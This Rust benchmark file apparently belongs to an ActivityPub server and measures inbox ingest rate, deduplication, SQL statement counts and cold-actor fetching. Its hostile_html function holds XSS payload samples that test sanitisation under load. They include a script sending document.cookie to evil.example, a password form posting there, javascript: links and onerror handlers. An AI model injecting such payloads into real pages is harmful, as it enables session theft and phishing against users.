//! Inbox benchmarks against the real `culturecnous serve` (release build, managed durable
//! PostgreSQL), over real HTTP. They print figures and never fail on time.
//!
//! - **B-1 ingest**: 20 000 signed `Create(Note)` carrying 1–2 KB of hostile HTML from 200
//!   remote actors whose keys the instance already has, on 32 connections, each a reply to a
//!   local announcement: stored as a comment (received-id row and comment row in one committed
//!   transaction, after ammonia); then the same 20 000 requests replayed, and "nothing lost,
//!   nothing stored twice" counted. The same load is run a second time with `Update(Person)`
//!   carrying the hostile HTML as the profile summary (received-id row and actor row).
//!   Printed with the committed-insert rate of the same database, measured first, and the
//!   server's resident memory.
//! - **B-2 cold actors**: 2 000 activities, each from an actor the instance has never seen,
//!   served by local servers answering after 50 ms: the rate, and how many times each actor
//!   was fetched (exactly once is expected).
//!
//! Run: `cargo bench --bench inbox` (both), `cargo bench --bench inbox -- b1` or `-- b2`.
//! Every request comes from 127.0.0.1, so the inbox limits are lifted through their
//! configuration keys ([`LIFTED_LIMITS`]) to measure throughput.
//!
//! The server runs the checks production runs on every activity (its URL verifier resolves
//! each activity id's host, through the cached filtering resolver); the bench's remote actors
//! live on `localhost` ports, which resolve to loopback, allowed here by
//! `federation.allow_private_addresses`. Each actor has a host of its own (a
//! port), within the default limits.
//!
//! B-1 also prints the CPU time of the server's inbound signature check per activity (its
//! pre-check and RSA verification, run in process through the production functions).
//!
//! B-1 counts the SQL statements the server runs per request (all of them, transaction
//! control included), from PostgreSQL's own `pg_stat_statements`, loaded into the managed
//! cluster before the run, and prints the ones that run at least once in twenty requests.

/// The inbox limits, per sending server and per client address, raised out of the way.
const LIFTED_LIMITS: &[(&str, &str)] = &[
    ("CULTURECNOUS__FEDERATION__INBOX_BURST", "10000000"),
    ("CULTURECNOUS__FEDERATION__INBOX_PER_MINUTE", "10000000"),
    ("CULTURECNOUS__FEDERATION__INBOX_FETCH_BURST", "10000000"),
    (
        "CULTURECNOUS__FEDERATION__INBOX_FETCH_PER_MINUTE",
        "10000000",
    ),
];

fn lifted_limits() -> impl Iterator<Item = (String, String)> {
    LIFTED_LIMITS
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
}

#[path = "../tests/support/remote.rs"]
mod remote;
mod support;

use axum::{
    Router,
    extract::{Path, State},
    http::header,
    response::IntoResponse,
    routing::get,
};
use culturecnous::db::schema::{actors, comments, received_activities};
use diesel::prelude::*;
use diesel_async::RunQueryDsl;
use remote::SignedPost;
use rsa::RsaPrivateKey;
use std::{
    collections::{BTreeMap, HashMap},
    sync::{
        Arc, Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    time::{Duration, Instant, SystemTime},
};
use support::{CpuMeter, Latencies, Serve, mib};

const ACTORS: usize = 200;
/// 20 000 unless `CULTURECNOUS_BENCH_ACTIVITIES` says otherwise (quicker profiling runs).
fn activities() -> usize {
    std::env::var("CULTURECNOUS_BENCH_ACTIVITIES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(20_000)
}
const CONNECTIONS: usize = 32;
/// First port of the remote actors of each B-1 workload (`http://localhost:10000` …): below
/// the ephemeral range, so never the server's own port.
const CREATE_PORTS: usize = 10_000;
const UPDATE_PORTS: usize = 11_000;
/// Distinct key pairs among the remote actors (verification costs the same whoever owns them).
const KEYS: usize = 8;
const COLD_ACTIVITIES: usize = 2_000;
const COLD_SERVERS: usize = 20;
const COLD_LATENCY: Duration = Duration::from_millis(50);

fn main() -> anyhow::Result<()> {
    if !support::started_by_cargo_bench() {
        println!("inbox benchmarks: run them with `cargo bench --bench inbox`");
        return Ok(());
    }
    support::raise_open_files_limit();
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?;
    for section in support::wanted(&["b1", "b2"]) {
        match section {
            "b1" => runtime.block_on(ingest()),
            _ => runtime.block_on(cold_actors()),
        }
    }
    Ok(())
}

/// 1–2 KB of what a hostile server might put in a post: scripts, event handlers,
/// `javascript:` links, frames, styles, forms, plus ordinary markup. Varies with `n`.
fn hostile_html(n: usize) -> String {
    let parts = [
        "<p>Appel à candidatures : résidence d'automne, <b>danse</b>, <i>théâtre</i> &amp; arts de la rue.</p>",
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
        "<img src=x onerror=\"alert('xss')\"><a href=\"javascript:alert(1)\">cliquez ici</a>",
        "<iframe src=\"https://evil.example/frame\" width=800 height=600></iframe>",
        "<style>body{display:none}</style><div style=\"position:fixed;inset:0\" onclick=\"steal()\">voile</div>",
        "<svg onload=alert(1)><use href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></svg>",
        "<form action=\"https://evil.example/login\"><input name=password type=password><button>Valider</button></form>",
        "<ul><li>Lieu : salle des fêtes</li><li>Date : <time>2026-12-01</time></li></ul>",
        "<blockquote><p>Une citation <a href=\"https://culture.example/agenda\" target=_blank>agenda</a></p></blockquote>",
        "<object data=\"evil.swf\"></object><embed src=\"evil.swf\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<p><b><i><u><s><code>imbriqué</code></s></u></i></b> &lt;script&gt; échappé &#x3C;/script&#x3E;</p>",
        "<a href=\"https://culture.example/@compagnie\" class=\"u-url mention\">@compagnie</a> <span class=\"h-card\">#spectacle</span>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math><base href=\"https://evil.example/\">",
        "<table><tr><td background=\"javascript:alert(1)\">cellule</td></tr></table><details open ontoggle=alert(1)>",
    ];
    let target = 1024 + (n * 37) % 1024;
    let mut html = format!("<p>Publication n°{n}</p>");
    let mut i = n;
    while html.len() < target {
        html.push_str(parts[i % parts.len()]);
        i += 1;
    }
    html
}

/// Signs `activities` (each with its key and key id) for `POST /inbox` on `domain`, on every
/// core; returns the requests in order and how long it took.
/// Requests whose inbound signature check is timed in process.
const VERIFY_SAMPLE: usize = 2_000;

/// CPU time of the calling thread.
fn thread_cpu() -> Duration {
    let mut t = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: clock_gettime fills the struct it is given.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut t) };
    Duration::new(
        u64::try_from(t.tv_sec).unwrap_or(0),
        u32::try_from(t.tv_nsec).unwrap_or(0),
    )
}

/// The CPU time per request of what the server runs on a signed POST before anything else:
/// the pre-check (signature header, Date, Digest against the body) and the RSA verification
/// with the actor's stored public key, through the production functions. Request `n` of
/// `posts` is signed by key `(n % ACTORS) % KEYS`, as [`ingest`] signs them.
fn verification_cpu(posts: &[SignedPost], public_keys: &[String], domain: &str) -> Duration {
    use culturecnous::federation::{inbound_signature, rfc9421::Target, signatures::precheck};
    let requests: Vec<(axum::http::HeaderMap, axum::http::Uri)> = posts
        .iter()
        .map(|post| {
            let mut headers = axum::http::HeaderMap::new();
            for (name, value) in &post.headers {
                headers.insert(*name, value.parse().expect("header value"));
            }
            (headers, post.path.parse().expect("path"))
        })
        .collect();
    let started = thread_cpu();
    for (n, (post, (headers, uri))) in posts.iter().zip(&requests).enumerate() {
        let method = axum::http::Method::POST;
        let signature = precheck(&method, headers, &post.body, domain, SystemTime::now())
            .expect("a valid signature");
        inbound_signature::verify_request(
            &signature,
            &method,
            uri,
            headers,
            Target {
                scheme: "http",
                authority: domain,
            },
            &public_keys[(n % ACTORS) % KEYS],
        )
        .expect("verifies");
    }
    (thread_cpu() - started) / u32::try_from(posts.len().max(1)).unwrap_or(u32::MAX)
}

fn sign_all(
    jobs: Vec<(serde_json::Value, Arc<RsaPrivateKey>, String)>,
    domain: &str,
) -> (Vec<SignedPost>, Duration) {
    let started = Instant::now();
    let threads = std::thread::available_parallelism().map_or(2, usize::from);
    let chunk = jobs.len().div_ceil(threads).max(1);
    let mut jobs = jobs;
    let mut parts = Vec::new();
    while !jobs.is_empty() {
        let rest = jobs.split_off(chunk.min(jobs.len()));
        parts.push(std::mem::replace(&mut jobs, rest));
    }
    let handles: Vec<_> = parts
        .into_iter()
        .map(|part| {
            let domain = domain.to_string();
            std::thread::spawn(move || {
                let date = SystemTime::now();
                part.into_iter()
                    .map(|(activity, key, key_id)| {
                        remote::sign_post(&key, &key_id, &domain, "/inbox", &activity, date)
                    })
                    .collect::<Vec<_>>()
            })
        })
        .collect();
    let posts = handles
        .into_iter()
        .flat_map(|h| h.join().expect("signing thread"))
        .collect();
    (posts, started.elapsed())
}

struct LoadResult {
    elapsed: Duration,
    latencies: Latencies,
    statuses: BTreeMap<u16, usize>,
    errors: Vec<String>,
    /// Whether each request (by index) was answered 202.
    accepted: Vec<bool>,
}

impl LoadResult {
    fn rate(&self) -> f64 {
        self.accepted.len() as f64 / self.elapsed.as_secs_f64()
    }

    fn print(&self, what: &str) {
        println!(
            "  {what}: {} requests in {:.2} s = {:.0}/s; {}",
            self.accepted.len(),
            self.elapsed.as_secs_f64(),
            self.rate(),
            self.latencies.summary()
        );
        println!(
            "    statuses {:?}{}",
            self.statuses,
            if self.errors.is_empty() {
                String::new()
            } else {
                format!(
                    ", {} transport errors (first: {})",
                    self.errors.len(),
                    self.errors[0]
                )
            }
        );
    }
}

/// Sends every request once over `connections` concurrent connections.
async fn run_load(
    client: &reqwest::Client,
    addr: std::net::SocketAddr,
    posts: Arc<Vec<SignedPost>>,
    connections: usize,
) -> LoadResult {
    let next = Arc::new(AtomicUsize::new(0));
    let started = Instant::now();
    let tasks: Vec<_> = (0..connections)
        .map(|_| {
            let client = client.clone();
            let posts = posts.clone();
            let next = next.clone();
            tokio::spawn(async move {
                let mut seen = Vec::new();
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    let Some(post) = posts.get(i) else {
                        return seen;
                    };
                    let sent = Instant::now();
                    let result = remote::send(&client, addr, post).await;
                    seen.push((i, sent.elapsed(), result));
                }
            })
        })
        .collect();
    let mut latencies = Vec::with_capacity(posts.len());
    let mut statuses = BTreeMap::new();
    let mut errors = Vec::new();
    let mut accepted = vec![false; posts.len()];
    for task in tasks {
        for (i, latency, result) in task.await.expect("load task") {
            latencies.push(latency);
            match result {
                Ok(status) => {
                    *statuses.entry(status.as_u16()).or_insert(0) += 1;
                    accepted[i] = status == reqwest::StatusCode::ACCEPTED;
                }
                Err(e) => errors.push(e),
            }
        }
    }
    LoadResult {
        elapsed: started.elapsed(),
        latencies: Latencies::new(latencies),
        statuses,
        errors,
        accepted,
    }
}

fn load_client() -> reqwest::Client {
    reqwest::Client::builder()
        .no_proxy()
        .pool_max_idle_per_host(CONNECTIONS)
        .tcp_nodelay(true)
        .timeout(Duration::from_secs(60))
        .build()
        .expect("HTTP client")
}

/// Samples the server's resident memory every 100 ms until told to stop; returns the highest.
fn sample_rss(
    pid: u32,
) -> (
    tokio::sync::oneshot::Sender<()>,
    tokio::task::JoinHandle<u64>,
) {
    let (stop, mut stopped) = tokio::sync::oneshot::channel();
    let task = tokio::spawn(async move {
        let mut highest = 0;
        loop {
            highest = highest.max(support::rss_kib(pid).0);
            tokio::select! {
                _ = &mut stopped => return highest,
                _ = tokio::time::sleep(Duration::from_millis(100)) => {}
            }
        }
    });
    (stop, task)
}

async fn count_received(url: &str, pattern: &str) -> i64 {
    let mut conn = support::connect(url).await;
    received_activities::table
        .filter(received_activities::ap_id.like(pattern))
        .count()
        .get_result(&mut conn)
        .await
        .expect("count received ids")
}

async fn count_comments(url: &str, pattern: &str) -> i64 {
    let mut conn = support::connect(url).await;
    comments::table
        .filter(comments::ap_id.like(pattern))
        .count()
        .get_result(&mut conn)
        .await
        .expect("count comments")
}

/// Lost: answered 202 the first time but not recorded. New rows after the replay would mean
/// the replayed requests were taken for other activities.
fn print_stored(first: &LoadResult, what: &str, after_first: i64, after_replay: i64) {
    let answered = first.accepted.iter().filter(|a| **a).count();
    println!(
        "    answered 202: {answered}; {what}: {after_first} (lost: {}); after the replay: {after_replay} (new: {})",
        i64::try_from(answered).unwrap_or(i64::MAX) - after_first,
        after_replay - after_first
    );
}

async fn ingest() {
    println!(
        "B-1 inbox ingest: {} signed activities with 1-2 KB of hostile HTML from {ACTORS} known remote actors, {CONNECTIONS} connections",
        activities()
    );
    let mut serve = Serve::new("ingest");
    serve.extra_env.extend(lifted_limits());
    println!(
        "  1-minute load average before start: {}",
        support::load_average()
    );
    let first_start = serve.start().await;
    println!(
        "  culturecnous serve up in {:.2} s (first start: initdb included)",
        first_start.as_secs_f64()
    );
    let db = serve.db_url();
    // PostgreSQL counts every statement the server runs: the extension is loaded at start.
    {
        let (client, conn) = tokio_postgres::connect(&db, tokio_postgres::NoTls)
            .await
            .expect("connect");
        let task = tokio::spawn(conn);
        client
            .batch_execute("ALTER SYSTEM SET shared_preload_libraries = 'pg_stat_statements'")
            .await
            .expect("preload pg_stat_statements");
        drop(client);
        let _ = task.await;
    }
    serve.terminate().await;
    serve.start().await;
    let statements = Statements::connect(&db).await;
    let mut insert_rates = Vec::new();
    for clients in [2, 8, 32] {
        let rate = support::insert_rate(&db, clients, Duration::from_secs(3)).await;
        println!(
            "  baseline: committed single-row inserts (1.5 KB JSONB) with {clients:>2} clients: {rate:.0}/s"
        );
        insert_rates.push((clients, rate));
    }
    let (idle_rss, _) = serve.rss_kib();
    println!("  server RSS idle: {:.1} MiB", mib(idle_rss));
    let announcement = support::Api::member(&serve, "theatre")
        .await
        .post(
            "/api/v1/announcements",
            serde_json::json!({"title": "Appel à projets", "body": "Répondez ici.",
                               "kind": "appel_a_projets"}),
        )
        .await["ap_id"]
        .as_str()
        .expect("the announcement's id")
        .to_string();

    let keypairs = tokio::task::spawn_blocking(|| remote::keypairs(KEYS))
        .await
        .expect("keys");
    let keys: Vec<Arc<RsaPrivateKey>> = keypairs
        .iter()
        .map(|k| Arc::new(remote::private_key(k)))
        .collect();
    // Two sets of actors, one per workload, each on a host of its own (`localhost:PORT`,
    // nobody listens there: the actors are known, nothing is fetched).
    let bases = |first_port: usize| -> Vec<String> {
        (0..ACTORS)
            .map(|a| format!("http://localhost:{}", first_port + a))
            .collect()
    };
    let create_bases = bases(CREATE_PORTS);
    let update_bases = bases(UPDATE_PORTS);
    {
        let rows: Vec<_> = create_bases
            .iter()
            .chain(update_bases.iter())
            .enumerate()
            .map(|(i, base)| {
                remote::actor_row(base, "compagnie", &keypairs[i % ACTORS % KEYS].public_key)
            })
            .collect();
        let mut conn = support::connect(&db).await;
        diesel::insert_into(actors::table)
            .values(&rows)
            .execute(&mut conn)
            .await
            .expect("remote actors");
    }

    let creates: Vec<_> = (0..activities())
        .map(|n| {
            let a = n % ACTORS;
            let actor = format!("{}/users/compagnie", create_bases[a]);
            let activity = serde_json::json!({
                "@context": "https://www.w3.org/ns/activitystreams",
                "id": format!("{}/statuses/{n}/activity", create_bases[a]),
                "type": "Create",
                "actor": actor,
                "published": "2026-11-28T10:00:00Z",
                "to": ["https://www.w3.org/ns/activitystreams#Public"],
                "cc": [format!("{actor}/followers")],
                "object": {
                    "id": format!("{}/statuses/{n}", create_bases[a]),
                    "type": "Note",
                    "attributedTo": actor,
                    "inReplyTo": announcement,
                    "published": "2026-11-28T10:00:00Z",
                    "to": ["https://www.w3.org/ns/activitystreams#Public"],
                    "cc": [format!("{actor}/followers")],
                    "content": hostile_html(n),
                },
            });
            (
                activity,
                keys[a % KEYS].clone(),
                format!("{actor}#main-key"),
            )
        })
        .collect();
    let updates: Vec<_> = (0..activities())
        .map(|n| {
            let a = n % ACTORS;
            let base = &update_bases[a];
            let actor = format!("{base}/users/compagnie");
            let activity = serde_json::json!({
                "@context": ["https://www.w3.org/ns/activitystreams", "https://w3id.org/security/v1"],
                "id": format!("{actor}#updates/{n}"),
                "type": "Update",
                "actor": actor,
                "to": ["https://www.w3.org/ns/activitystreams#Public"],
                "object": {
                    "id": actor,
                    "type": "Person",
                    "preferredUsername": "compagnie",
                    "name": format!("Compagnie {a} (profil v{n})"),
                    "summary": hostile_html(n),
                    "inbox": format!("{actor}/inbox"),
                    "outbox": format!("{actor}/outbox"),
                    "followers": format!("{actor}/followers"),
                    "following": format!("{actor}/following"),
                    "endpoints": {"sharedInbox": format!("{base}/inbox")},
                    "url": format!("{base}/@compagnie"),
                    "publicKey": {
                        "id": format!("{actor}#main-key"),
                        "owner": actor,
                        "publicKeyPem": keypairs[a % KEYS].public_key,
                    },
                },
            });
            (activity, keys[a % KEYS].clone(), format!("{actor}#main-key"))
        })
        .collect();
    let domain = serve.domain();
    let (creates, updates, signing) = tokio::task::spawn_blocking(move || {
        let (creates, a) = sign_all(creates, &domain);
        let (updates, b) = sign_all(updates, &domain);
        (creates, updates, a + b)
    })
    .await
    .expect("signing");
    let body_bytes: usize = creates.iter().map(|p| p.body.len()).sum();
    println!(
        "  pre-signed {} requests in {:.1} s ({:.0} signatures/s on {} threads); Create bodies average {} bytes",
        creates.len() + updates.len(),
        signing.as_secs_f64(),
        (creates.len() + updates.len()) as f64 / signing.as_secs_f64(),
        std::thread::available_parallelism().map_or(2, usize::from),
        body_bytes / creates.len().max(1)
    );

    let public_keys: Vec<String> = keypairs.iter().map(|k| k.public_key.clone()).collect();
    let sample = creates.len().min(VERIFY_SAMPLE);
    let per_activity = verification_cpu(&creates[..sample], &public_keys, &serve.domain());
    println!(
        "  inbound signature check (the server's pre-check and RSA verification, in process, one thread, {sample} requests): {:.1} µs CPU per activity",
        per_activity.as_secs_f64() * 1e6
    );

    let client = load_client();
    let pid = serve.pid();
    let (stop_sampling, sampling) = sample_rss(pid);
    let creates = Arc::new(creates);
    let cpu = CpuMeter::start(&serve);
    let counted = statements.snapshot().await;
    let first = run_load(&client, serve.addr(), creates.clone(), CONNECTIONS).await;
    first.print("Create(Note), first delivery");
    println!("    {}", cpu.report(activities()));
    statements.report(&counted, activities()).await;
    for (clients, rate) in &insert_rates {
        println!(
            "    ratio to the committed-insert rate at {clients:>2} clients: {:.2}",
            first.rate() / rate
        );
    }
    let create_pattern = format!("http://localhost:{}%/statuses/%", CREATE_PORTS / 1000);
    let create_pattern = create_pattern.as_str();
    let after_first = count_received(&db, create_pattern).await;
    let comments_first = count_comments(&db, create_pattern).await;
    let cpu = CpuMeter::start(&serve);
    let counted = statements.snapshot().await;
    let replay = run_load(&client, serve.addr(), creates.clone(), CONNECTIONS).await;
    replay.print("Create(Note), same requests replayed");
    println!("    {}", cpu.report(activities()));
    statements.report(&counted, activities()).await;
    let after_replay = count_received(&db, create_pattern).await;
    print_stored(&first, "received-activity rows", after_first, after_replay);
    let comments_replay = count_comments(&db, create_pattern).await;
    print_stored(&first, "comments stored", comments_first, comments_replay);

    let updates = Arc::new(updates);
    let cpu = CpuMeter::start(&serve);
    let counted = statements.snapshot().await;
    let stored = run_load(&client, serve.addr(), updates.clone(), CONNECTIONS).await;
    stored.print("Update(Person) (stored path: dedupe row + actor row, ammonia on the summary)");
    println!("    {}", cpu.report(activities()));
    statements.report(&counted, activities()).await;
    for (clients, rate) in &insert_rates {
        println!(
            "    ratio to the committed-insert rate at {clients:>2} clients: {:.2}",
            stored.rate() / rate
        );
    }
    let update_pattern = format!(
        "http://localhost:{}%/users/compagnie#updates/%",
        UPDATE_PORTS / 1000
    );
    let update_pattern = update_pattern.as_str();
    let after_first = count_received(&db, update_pattern).await;
    let replay_started = chrono::Utc::now();
    let cpu = CpuMeter::start(&serve);
    let counted = statements.snapshot().await;
    let replayed = run_load(&client, serve.addr(), updates.clone(), CONNECTIONS).await;
    replayed.print("Update(Person), same requests replayed");
    println!("    {}", cpu.report(activities()));
    statements.report(&counted, activities()).await;
    let after_replay = count_received(&db, update_pattern).await;
    print_stored(&stored, "received-activity rows", after_first, after_replay);
    let reapplied: i64 = {
        let mut conn = support::connect(&db).await;
        actors::table
            .filter(actors::ap_id.like(format!(
                "http://localhost:{}%/users/compagnie",
                UPDATE_PORTS / 1000
            )))
            .filter(actors::updated_at.gt(replay_started))
            .count()
            .get_result(&mut conn)
            .await
            .expect("count updated actors")
    };
    println!("    actor rows changed by the replay (an Update applied twice): {reapplied}");
    let _ = stop_sampling.send(());
    let sampled = sampling.await.unwrap_or(0);
    let (_, peak) = serve.rss_kib();
    println!(
        "  server RSS: idle {:.1} MiB, highest sampled under load {:.1} MiB, peak (VmHWM) {:.1} MiB",
        mib(idle_rss),
        mib(sampled),
        mib(peak)
    );
    serve.terminate().await;
}

/// Statement counts of the instance's database, from `pg_stat_statements`.
struct Statements {
    client: tokio_postgres::Client,
}

impl Statements {
    async fn connect(url: &str) -> Statements {
        let (client, conn) = tokio_postgres::connect(url, tokio_postgres::NoTls)
            .await
            .expect("connect");
        tokio::spawn(conn);
        client
            .batch_execute("CREATE EXTENSION IF NOT EXISTS pg_stat_statements")
            .await
            .expect("pg_stat_statements");
        Statements { client }
    }

    /// Executions so far of each statement run in this database.
    async fn snapshot(&self) -> HashMap<(i64, String), i64> {
        self.client
            .query(
                "SELECT coalesce(queryid, 0), query, calls FROM pg_stat_statements \
                 WHERE dbid = (SELECT oid FROM pg_database WHERE datname = current_database())",
                &[],
            )
            .await
            .expect("read pg_stat_statements")
            .into_iter()
            .map(|row| ((row.get(0), row.get(1)), row.get(2)))
            .collect()
    }

    /// Statements per request since `before` (this reading itself excluded), and the ones run
    /// at least once in twenty requests.
    async fn report(&self, before: &HashMap<(i64, String), i64>, requests: usize) {
        let after = self.snapshot().await;
        let mut deltas: Vec<(i64, &str)> = after
            .iter()
            .map(|(key, calls)| {
                (
                    calls - before.get(key).copied().unwrap_or(0),
                    key.1.as_str(),
                )
            })
            .filter(|(delta, query)| *delta > 0 && !query.contains("pg_stat_statements"))
            .collect();
        deltas.sort_by_key(|d| std::cmp::Reverse(d.0));
        let total: i64 = deltas.iter().map(|(d, _)| d).sum();
        let per = |n: i64| n as f64 / requests.max(1) as f64;
        println!(
            "    SQL statements run by the server: {total} = {:.2} per request (pg_stat_statements)",
            per(total)
        );
        for (delta, query) in deltas {
            if per(delta) < 0.05 {
                break;
            }
            let query: String = query.split_whitespace().collect::<Vec<_>>().join(" ");
            let shown: String = query.chars().take(110).collect();
            println!(
                "      {:.2}/request  {shown}{}",
                per(delta),
                if shown.len() < query.len() { "…" } else { "" }
            );
        }
    }
}

#[derive(Clone)]
struct ActorServer {
    port: u16,
    keys: Arc<Vec<String>>,
    fetches: Arc<Mutex<HashMap<String, usize>>>,
}

/// `GET /users/{name}`: a Mastodon-shaped actor document, after [`COLD_LATENCY`].
async fn http_get_actor(
    State(server): State<ActorServer>,
    Path(name): Path<String>,
) -> axum::response::Response {
    let n: usize = name.trim_start_matches('c').parse().unwrap_or(usize::MAX);
    *server
        .fetches
        .lock()
        .expect("fetch counts")
        .entry(format!("{}:{name}", server.port))
        .or_insert(0) += 1;
    tokio::time::sleep(COLD_LATENCY).await;
    if n == usize::MAX {
        return axum::http::StatusCode::NOT_FOUND.into_response();
    }
    let base = format!("http://localhost:{}", server.port);
    let id = format!("{base}/users/{name}");
    let doc = serde_json::json!({
        "@context": ["https://www.w3.org/ns/activitystreams", "https://w3id.org/security/v1"],
        "id": id,
        "type": "Person",
        "preferredUsername": name,
        "name": format!("Artiste {n}"),
        "summary": "<p>Plasticienne, ateliers <script>x()</script>ouverts.</p>",
        "inbox": format!("{id}/inbox"),
        "outbox": format!("{id}/outbox"),
        "followers": format!("{id}/followers"),
        "following": format!("{id}/following"),
        "endpoints": {"sharedInbox": format!("{base}/inbox")},
        "url": format!("{base}/@{name}"),
        "manuallyApprovesFollowers": false,
        "discoverable": true,
        "published": "2024-01-01T00:00:00Z",
        "publicKey": {
            "id": format!("{id}#main-key"),
            "owner": id,
            "publicKeyPem": server.keys[n % server.keys.len()],
        },
    });
    (
        [(header::CONTENT_TYPE, "application/activity+json")],
        doc.to_string(),
    )
        .into_response()
}

async fn cold_actors() {
    println!(
        "B-2 cold actors: {COLD_ACTIVITIES} activities, each from an actor never seen, served by {COLD_SERVERS} local servers with {} ms latency, {CONNECTIONS} connections",
        COLD_LATENCY.as_millis()
    );
    let mut serve = Serve::new("cold");
    serve.extra_env.extend(lifted_limits());
    serve.start().await;
    let keypairs = tokio::task::spawn_blocking(|| remote::keypairs(KEYS))
        .await
        .expect("keys");
    let public: Arc<Vec<String>> =
        Arc::new(keypairs.iter().map(|k| k.public_key.clone()).collect());
    let keys: Vec<Arc<RsaPrivateKey>> = keypairs
        .iter()
        .map(|k| Arc::new(remote::private_key(k)))
        .collect();
    let fetches = Arc::new(Mutex::new(HashMap::new()));
    let mut ports = Vec::new();
    let mut servers = Vec::new();
    for _ in 0..COLD_SERVERS {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind actor server");
        let port = listener.local_addr().expect("address").port();
        let app = Router::new()
            .route("/users/{name}", get(http_get_actor))
            .with_state(ActorServer {
                port,
                keys: public.clone(),
                fetches: fetches.clone(),
            });
        servers.push(tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        }));
        ports.push(port);
    }
    let jobs: Vec<_> = (0..COLD_ACTIVITIES)
        .map(|n| {
            let base = format!("http://localhost:{}", ports[n % COLD_SERVERS]);
            let actor = format!("{base}/users/c{n}");
            let activity = serde_json::json!({
                "@context": "https://www.w3.org/ns/activitystreams",
                "id": format!("{base}/statuses/{n}/activity"),
                "type": "Create",
                "actor": actor,
                "to": ["https://www.w3.org/ns/activitystreams#Public"],
                "object": {
                    "id": format!("{base}/statuses/{n}"),
                    "type": "Note",
                    "attributedTo": actor,
                    "content": hostile_html(n),
                },
            });
            (
                activity,
                keys[n % KEYS].clone(),
                format!("{actor}#main-key"),
            )
        })
        .collect();
    let domain = serve.domain();
    let (posts, _) = tokio::task::spawn_blocking(move || sign_all(jobs, &domain))
        .await
        .expect("signing");
    let client = load_client();
    let cpu = CpuMeter::start(&serve);
    let result = run_load(&client, serve.addr(), Arc::new(posts), CONNECTIONS).await;
    result.print("Create(Note) from unseen actors");
    println!("    {}", cpu.report(COLD_ACTIVITIES));
    let counts = fetches.lock().expect("fetch counts").clone();
    let total: usize = counts.values().sum();
    let most = counts.values().copied().max().unwrap_or(0);
    let fetched_actors = counts.len();
    println!(
        "  actor fetches: {total} for {COLD_ACTIVITIES} actors ({fetched_actors} distinct actors fetched, at most {most} fetch per actor)"
    );
    let db = serve.db_url();
    let mut conn = support::connect(&db).await;
    let cached: i64 = actors::table
        .filter(actors::username.like("c%"))
        .filter(actors::local.eq(false))
        .count()
        .get_result(&mut conn)
        .await
        .expect("count actors");
    println!("  remote actors now cached: {cached}");
    for server in servers {
        server.abort();
    }
    serve.terminate().await;
}
